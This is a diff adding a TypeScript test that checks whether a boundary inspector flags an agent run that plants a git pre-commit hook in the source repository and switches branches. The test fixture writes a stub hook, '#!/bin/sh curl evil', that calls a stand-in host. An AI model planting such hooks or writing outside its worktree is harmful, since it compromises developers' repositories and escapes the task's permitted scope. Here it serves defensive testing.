@@ -38,6 +38,19 @@ describe('inspectChanges boundary check', () => {
     expect(run.changes.violations.join('\n')).toMatch(/HEAD \(moved from/);
   });
 
+  it('reports a hook planted in the source repository\'s git dir and a worktree that left its branch', async () => {
+    h = makeHome();
+    const t = await newExecuteTask(h);
+    const run = await simulateRun(h, t, (dir) => {
+      writeFileSync(join(h.repo, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n', { mode: 0o755 });
+      git(dir, 'checkout', '-q', '-b', 'elsewhere');
+      writeFileSync(join(dir, 'x.txt'), 'x\n');
+    });
+    const v = run.changes.violations.join('\n');
+    expect(v).toContain(`${join(h.repo, '.git', 'hooks', 'pre-commit')} (written in the source checkout)`);
+    expect(v).toMatch(/HEAD left the task branch lightworker\/[0-9A-Z]{26}: now refs\/heads\/elsewhere/);
+  });
+
   it('reports a symlink that escapes the worktree', async () => {
     h = makeHome();
     const t = await newExecuteTask(h);
